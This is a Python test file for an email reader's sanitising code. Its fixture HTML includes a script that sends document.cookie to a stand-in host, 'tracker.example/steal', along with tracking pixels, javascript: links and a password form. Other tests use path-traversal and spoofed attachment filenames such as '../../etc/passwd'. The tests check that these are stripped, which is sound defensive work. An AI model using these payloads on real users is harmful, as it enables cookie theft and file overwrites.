"""Reading one message: safe HTML, attachments byte for byte, long texts, differences."""

from __future__ import annotations

import re
from datetime import UTC, datetime
from email import message_from_bytes
from email.message import EmailMessage
from email.policy import default
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import delete, select, update

from desk.mail.ingest import ingest_source
from desk.mail.sources import open_source
from desk.store.database import Store
from desk.store.models import Message, MessageRaw
from desk.workbench.reading import (
    MAX_FILENAME_BYTES,
    SHOWN_LINES,
    NotAvailableError,
    Span,
    attachment_bytes,
    differences,
    full_html,
    full_text,
    message_detail,
    raw_source,
    safe_filename,
)
from tests.support.mail import simple_message, write_maildir

HOSTILE_HTML = """<html><head>
<title>Titre</title>
<link rel="stylesheet" href="http://tracker.example/style.css">
<meta http-equiv="refresh" content="0;url=http://tracker.example/go">
<style>body { background: url(http://tracker.example/bg.png) }</style>
<script>document.location = "http://tracker.example/steal?" + document.cookie;</script>
</head>
<body onload="alert('loaded')" background="http://tracker.example/body.png">
<p style="background-image: url('http://tracker.example/p.png')">Bonjour, voici ma demande.</p>
<p><a href="javascript:alert(1)">cliquez ici</a> ou <a href="https://example.org/aide">l'aide</a></p>
<img src="http://tracker.example/pixel.gif" width="1" height="1">
<img srcset="http://tracker.example/a.png 1x, https://tracker.example/b.png 2x">
<table background="http://tracker.example/table.png"><tr>
<td background="http://tracker.example/td.png" onclick="steal()">cellule</td></tr></table>
<iframe src="http://tracker.example/frame"></iframe>
<object data="http://tracker.example/object.swf"></object>
<embed src="http://tracker.example/embed.swf">
<form action="http://tracker.example/post"><input name="password"><button>Envoyer</button></form>
<svg><image href="http://tracker.example/svg.png"/></svg>
<p>Cordialement, Marie</p>
</body></html>
"""


def html_message(html: str = HOSTILE_HTML) -> bytes:
    """An HTML-only message (by default the hostile one above)."""
    msg = EmailMessage()
    msg["From"] = "Marie Durand <marie@example.org>"
    msg["To"] = "contact@example-edu.fr"
    msg["Cc"] = "copie@example.org"
    msg["Reply-To"] = "marie.durand@example.net"
    msg["Subject"] = "Demande piégée"
    msg["Message-ID"] = "<html-hostile@example.org>"
    msg["Date"] = "Tue, 17 Mar 2020 10:30:00 +0100"
    msg.set_content(html, subtype="html")
    return msg.as_bytes()


PDF = b"%PDF-1.4\n" + bytes(range(256)) * 40 + b"\n%%EOF\n"
BINARY = bytes((i * 37 + 11) % 256 for i in range(5000))
PNG = b"\x89PNG\r\n\x1a\n" + bytes(range(200))
CSV = "nom;prénom\r\nDurand;Marie\r\n".encode()


def attachment_message() -> tuple[bytes, list[tuple[str, bytes]]]:
    """A mixed message: text + HTML with an inline image, then three attached files."""
    msg = EmailMessage()
    msg["From"] = "Paul Martin <paul@example.org>"
    msg["To"] = "contact@example-edu.fr"
    msg["Subject"] = "Pièces jointes"
    msg["Message-ID"] = "<attachments@example.org>"
    msg["Date"] = "Wed, 18 Mar 2020 11:00:00 +0100"
    msg.set_content("Voici les documents demandés.\n")
    msg.add_alternative('<p>Voici les documents demandés.<img src="cid:logo"></p>', subtype="html")
    html_part = msg.get_payload()[1]
    assert isinstance(html_part, EmailMessage)
    html_part.add_related(PNG, maintype="image", subtype="png", cid="<logo>", filename="logo.png")
    msg.add_attachment(PDF, maintype="application", subtype="pdf", filename="relevé de notes.pdf")
    msg.add_attachment(
        BINARY, maintype="application", subtype="octet-stream", filename="../../etc/passwd"
    )
    msg.add_attachment(CSV, maintype="text", subtype="csv", filename="liste.csv")
    expected = [
        ("logo.png", PNG),
        ("relevé de notes.pdf", PDF),
        ("../../etc/passwd", BINARY),
        ("liste.csv", CSV),
    ]
    return msg.as_bytes(), expected


# Built once: the MIME boundary is random, and the raw-source test compares bytes.
ATTACHED_RAW, ATTACHED = attachment_message()


def long_message(lines: int = 10_000) -> bytes:
    """A plain-text message of ``lines`` short lines ("Ligne <n> : erreur")."""
    body = "\n".join(f"Ligne {i} : erreur" for i in range(lines))
    return (
        "From: Admin <admin@example.org>\n"
        "To: contact@example-edu.fr\n"
        "Subject: Journal complet\n"
        "Message-ID: <long@example.org>\n"
        "Date: Thu, 19 Mar 2020 08:00:00 +0100\n"
        "Content-Type: text/plain; charset=utf-8\n"
        "\n"
        f"{body}\n"
    ).encode()


def ingest_messages(store: Store, tmp_path: Path, messages: list[bytes]) -> dict[str, int]:
    """The messages stored from their bytes, by Message-ID header."""
    root = write_maildir(tmp_path / "Maildir", messages)
    ingest_source(store.sessions, open_source(root), workers=0)
    with store.sessions() as session:
        rows = session.execute(select(Message.message_id, Message.id)).all()
    return {str(mid): int(pk) for mid, pk in rows}


@pytest.fixture
def stored(store: Store, tmp_path: Path) -> dict[str, int]:
    """The test messages ingested into a store of each backend."""
    messages = [html_message(), ATTACHED_RAW, long_message(), simple_message(1)]
    return ingest_messages(store, tmp_path, messages)


REMOTE = re.compile(r"tracker\.example|url\s*\(|srcset|background|<img|<link|<meta", re.I)


def test_hostile_html_is_shown_with_nothing_that_runs_or_loads(
    store: Store, stored: dict[str, int]
) -> None:
    with store.sessions.begin() as session:
        detail = message_detail(session, stored["<html-hostile@example.org>"])
    html = detail.safe_html
    assert html is not None
    lowered = html.lower()
    forbidden_words = ("<script", "onload", "onclick", "javascript:", "<iframe", "<object",
                       "<embed", "<form", "<input", "<style", "<svg", "cookie")  # fmt: skip
    for forbidden in forbidden_words:
        assert forbidden not in lowered, forbidden
    assert not REMOTE.search(html), REMOTE.search(html)
    # What the sender wrote is still there, and the harmless link stays a link.
    assert "Bonjour, voici ma demande." in html
    assert "Cordialement, Marie" in html
    assert 'href="https://example.org/aide"' in html
    assert "cliquez ici" in html
    # The headers, decoded.
    assert detail.subject == "Demande piégée"
    assert (detail.from_name, detail.from_addr) == ("Marie Durand", "marie@example.org")
    assert detail.reply_to == "marie.durand@example.net"
    assert detail.to == ("contact@example-edu.fr",)
    assert detail.cc == ("copie@example.org",)
    assert detail.date == datetime(2020, 3, 17, 9, 30, tzinfo=UTC)
    assert detail.date.tzinfo is not None
    assert detail.status == "open"
    assert detail.body_fetched
    assert not detail.truncated
    assert "Bonjour, voici ma demande." in detail.text
    assert "document.location" not in detail.text


def test_html_rows_from_an_older_parser_are_sanitised_again(
    store: Store, stored: dict[str, int]
) -> None:
    """Sanitising at read time too: a row stored unsanitised never reaches the pane raw."""
    message_id = stored["<html-hostile@example.org>"]
    with store.sessions.begin() as session:
        session.execute(update(Message).where(Message.id == message_id).values(html=HOSTILE_HTML))
    with store.sessions.begin() as session:
        shown = message_detail(session, message_id).safe_html
        whole = full_html(session, message_id)
    for html in (shown, whole):
        assert html is not None
        assert "<script" not in html.lower()
        assert not REMOTE.search(html)


def test_attachments_are_listed_and_extracted_byte_for_byte(
    store: Store, stored: dict[str, int]
) -> None:
    expected = ATTACHED
    message_id = stored["<attachments@example.org>"]
    with store.sessions.begin() as session:
        detail = message_detail(session, message_id)
        assert [a.index for a in detail.attachments] == [0, 1, 2, 3]
        assert [a.filename for a in detail.attachments] == [name for name, _ in expected]
        assert [a.content_type for a in detail.attachments] == [
            "image/png", "application/pdf", "application/octet-stream", "text/csv",
        ]  # fmt: skip
        assert [a.size for a in detail.attachments] == [len(data) for _, data in expected]
        for info, (name, data) in zip(detail.attachments, expected, strict=True):
            assert attachment_bytes(session, message_id, info.index) == (name, data)
        with pytest.raises(NotAvailableError):
            attachment_bytes(session, message_id, 4)
        with pytest.raises(NotAvailableError):
            attachment_bytes(session, message_id, -1)
    assert "Voici les documents demandés." in detail.text


def test_an_attached_message_is_saved_as_a_message(store: Store, tmp_path: Path) -> None:
    inner = EmailMessage()
    inner["From"] = "ancien@example.org"
    inner["Subject"] = (
        "Le message transféré, avec un objet assez long pour être replié par un générateur"
    )
    inner["Message-ID"] = "<inner@example.org>"
    inner.set_content("Texte du message d'origine.\n")
    outer = EmailMessage()
    outer["From"] = "paul@example.org"
    outer["Subject"] = "Transfert"
    outer["Message-ID"] = "<outer@example.org>"
    outer["Date"] = "Wed, 18 Mar 2020 11:00:00 +0100"
    outer.set_content("Je vous transfère ce message.\n")
    outer.add_attachment(inner)
    ids = ingest_messages(store, tmp_path, [outer.as_bytes()])
    with store.sessions.begin() as session:
        detail = message_detail(session, ids["<outer@example.org>"])
        assert [a.content_type for a in detail.attachments] == ["message/rfc822"]
        _, data = attachment_bytes(session, ids["<outer@example.org>"], 0)
    saved = message_from_bytes(data, policy=default)
    assert saved["Message-ID"] == "<inner@example.org>"
    assert saved["Subject"] == inner["Subject"]
    body = saved.get_body()
    assert body is not None
    assert body.get_content() == "Texte du message d'origine.\n"


def test_raw_source_is_the_bytes_that_arrived(store: Store, stored: dict[str, int]) -> None:
    with store.sessions.begin() as session:
        assert raw_source(session, stored["<attachments@example.org>"]) == ATTACHED_RAW


def test_a_long_message_is_cut_for_the_view_and_whole_on_request(
    store: Store, stored: dict[str, int]
) -> None:
    message_id = stored["<long@example.org>"]
    with store.sessions.begin() as session:
        detail = message_detail(session, message_id)
        whole = full_text(session, message_id)
        by_chars = message_detail(session, message_id, max_chars=1000)
    assert detail.truncated
    assert detail.line_count == 10_000
    assert detail.text.count("\n") + 1 == SHOWN_LINES
    assert detail.text.endswith(f"Ligne {SHOWN_LINES - 1} : erreur")
    assert whole.startswith(detail.text)
    assert whole.rstrip("\n").endswith("Ligne 9999 : erreur")
    assert whole.count("\n") >= 9_999
    assert by_chars.truncated and len(by_chars.text) == 1000
    assert whole.startswith(by_chars.text)


def test_a_short_message_is_not_truncated(store: Store, stored: dict[str, int]) -> None:
    with store.sessions.begin() as session:
        detail = message_detail(session, stored["<msg1@example.org>"])
    assert not detail.truncated
    assert detail.line_count == 1
    assert detail.safe_html is None
    assert detail.attachments == ()
    assert detail.text.rstrip("\n") == "Bonjour, mon fils n'arrive pas à se connecter. Numéro 1."


def test_header_only_rows_and_missing_messages(store: Store, stored: dict[str, int]) -> None:
    message_id = stored["<msg1@example.org>"]
    with store.sessions.begin() as session:
        session.execute(
            update(Message)
            .where(Message.id == message_id)
            .values(body_fetched=False, text="", html=None, attachments=[])
        )
        session.execute(delete(MessageRaw).where(MessageRaw.message_id == message_id))
    with store.sessions.begin() as session:
        detail = message_detail(session, message_id)
        assert not detail.body_fetched
        assert detail.text == ""
        assert detail.line_count == 0
        assert detail.subject == "Mot de passe oublié"
        with pytest.raises(NotAvailableError) as raised:
            raw_source(session, message_id)
        assert raised.value.what == "source"
        missing = max(stored.values()) + 100
        for call in (message_detail, full_text, raw_source):
            with pytest.raises(NotAvailableError):
                call(session, missing)


@pytest.mark.parametrize(
    ("hostile", "expected"),
    [
        ("../../etc/passwd", "passwd"),
        ("..\\..\\Windows\\System32\\evil.dll", "evil.dll"),
        ("/absolute/path/report.pdf", "report.pdf"),
        ("..", "attachment"),
        ("", "attachment"),
        ("   ", "attachment"),
        ("./.", "attachment"),
        (".bashrc", "bashrc"),
        ("CON", "_CON"),
        ("nul.txt", "_nul.txt"),
        ("Com1.tar.gz", "_Com1.tar.gz"),
        ("LPT9", "_LPT9"),
        ("console.txt", "console.txt"),
        ("a\x00b\x07c\r\n.txt", "abc.txt"),
        ("facture\u202efdp.exe", "facturefdp.exe"),
        ('what?<is>:this|"*.doc', "what__is__this___.doc"),
        ("report.pdf.  ", "report.pdf"),
        ("relevé de notes.pdf", "relevé de notes.pdf"),
    ],
)
def test_safe_filename(hostile: str, expected: str) -> None:
    assert safe_filename(hostile) == expected


def test_safe_filename_cuts_long_names_and_keeps_the_extension() -> None:
    name = safe_filename("é" * 400 + ".pdf")
    assert name.endswith(".pdf")
    assert len(name.encode("utf-8")) <= MAX_FILENAME_BYTES
    assert set(name[:-4]) == {"é"}


@given(st.text())
def test_safe_filename_is_always_a_plain_name(name: str) -> None:
    safe = safe_filename(name)
    assert safe
    assert "/" not in safe and "\\" not in safe
    assert safe not in {".", ".."}
    assert not safe.startswith((".", " ")) and not safe.endswith((".", " "))
    assert not any(ord(ch) < 32 or ord(ch) == 127 for ch in safe)
    assert not set('<>:"|?*') & set(safe)
    assert len(safe.encode("utf-8")) <= MAX_FILENAME_BYTES
    assert safe.split(".")[0].casefold() not in {"con", "prn", "aux", "nul", "com1", "lpt1"}


def _marked(text: str, spans: list[Span]) -> list[tuple[str, str]]:
    return [(text[s.start : s.end], s.kind) for s in spans]


def test_differences_on_simple_cases() -> None:
    rep = "Bonjour, je n'arrive pas à me connecter à mon compte."
    assert differences(rep, rep) == []
    changed = "Bonjour, je n'arrive plus à me connecter à mon compte."
    assert _marked(changed, differences(rep, changed)) == [("plus", "changed")]
    added = "Bonjour, je n'arrive pas à me connecter à mon compte élève depuis lundi."
    assert _marked(added, differences(rep, added)) == [("élève depuis lundi", "inserted")]
    removed = "Bonjour, je n'arrive pas à me connecter."
    assert differences(rep, removed) == []  # nothing of this text to mark
    assert _marked("Tout autre chose", differences(rep, "Tout autre chose")) == [
        ("Tout autre chose", "changed")
    ]
    assert _marked("Un texte", differences("", "Un texte")) == [("Un texte", "inserted")]
    assert differences("Un texte", "") == []
    # White space never counts; case does.
    assert differences(rep, rep.replace(" ", "\n  ")) == []
    assert _marked(rep.upper(), differences(rep, rep.upper()))[0][1] == "changed"


def test_differences_on_long_texts_stay_bounded() -> None:
    lines = [f"Ligne {i} : la même phrase revient encore et encore" for i in range(10_000)]
    rep = "\n".join(lines)
    member = list(lines)
    member[3] = "Ligne 3 : une phrase toute différente ici"
    member[9_000] = "Ligne 9000 : une autre phrase différente là"
    text = "\n".join(member)
    spans = differences(rep, text, limit=500)
    kinds = [s.kind for s in spans]
    assert kinds[-1] == "unknown"
    assert "changed" in kinds
    changed = " ".join(text[s.start : s.end] for s in spans if s.kind == "changed")
    assert changed == "une toute différente ici"
    unknown = spans[-1]
    # Not compared: from the limit to the last difference (common ends are never unknown).
    assert unknown.end == text.index("différente là") + len("différente là")
    # A single change far into two long texts is found exactly (common ends are skipped).
    one = list(lines)
    one[7_777] = "Ligne 7777 : la même phrase revient toujours et encore"
    text = "\n".join(one)
    assert _marked(text, differences(rep, text, limit=500)) == [("toujours", "changed")]
    assert differences(rep, rep, limit=10) == []


words = st.lists(
    st.sampled_from(
        ["le", "la", "compte", "mot", "de", "passe", "élève", ",", ".", "42", "Bonjour"]
    ),
    max_size=60,
)
separators = st.sampled_from([" ", "  ", "\n", " \n "])


@st.composite
def texts(draw: st.DrawFn) -> str:
    tokens = draw(words)
    return "".join(token + draw(separators) for token in tokens)


@given(texts(), texts(), st.integers(min_value=1, max_value=80))
def test_differences_spans_are_sorted_disjoint_and_in_bounds(
    representative: str, text: str, limit: int
) -> None:
    spans = differences(representative, text, limit=limit)
    previous_end = 0
    for span in spans:
        assert 0 <= span.start < span.end <= len(text)
        assert span.start >= previous_end
        assert span.kind in {"inserted", "changed", "unknown"}
        previous_end = span.end
    assert differences(text, text, limit=limit) == []
    # Everything left unmarked is, in order, a part of the representative.
    unmarked = list(text)
    for span in spans:
        unmarked[span.start : span.end] = [" "] * (span.end - span.start)
    kept = re.findall(r"\w+|[^\w\s]", "".join(unmarked))
    theirs = iter(re.findall(r"\w+|[^\w\s]", representative))
    assert all(token in theirs for token in kept)
